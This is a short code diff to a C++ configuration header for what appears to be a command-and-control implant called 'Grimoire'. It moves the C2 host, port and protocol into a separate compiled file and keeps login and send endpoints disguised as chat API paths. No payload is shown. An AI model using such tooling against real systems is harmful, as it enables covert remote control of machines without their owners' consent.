@@ -8,10 +8,11 @@
 
 namespace Grimoire::Config {
 
-    // 在编译时，HOST和PORT 会被替换成 server 脚本传入的字符串字面量
-    const std::string Grimoire_C2_PORT = GRIMOIRE_C2_PORT;
-    const std::string Grimoire_C2_HOST = GRIMOIRE_C2_HOST;
-    const std::string Grimoire_C2_PROTOCOL = GRIMOIRE_C2_PROTOCOL;
+    // HOST、PORT 和 PROTOCOL 定义在 GrimoireConfig.cpp 里，只有那一个文件带 server 传入的宏，
+    // 换 C2 地址重新编译时只需要重编这一个文件再链接
+    extern const std::string Grimoire_C2_PORT;
+    extern const std::string Grimoire_C2_HOST;
+    extern const std::string Grimoire_C2_PROTOCOL;
     const std::string Grimoire_C2_LOGIN = "/api/chat/login";
     const std::string Grimoire_C2_SEND = "/api/chat/send";
 }